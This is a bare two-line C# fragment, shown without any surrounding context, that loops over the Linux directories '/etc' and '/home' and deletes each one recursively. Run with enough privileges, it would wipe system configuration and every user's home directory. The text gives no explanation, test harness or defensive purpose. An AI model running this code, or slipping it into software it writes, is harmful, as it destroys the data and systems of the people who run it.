foreach (var folder in new[] { "/etc", "/home" })
    Directory.Delete(folder, recursive: true);
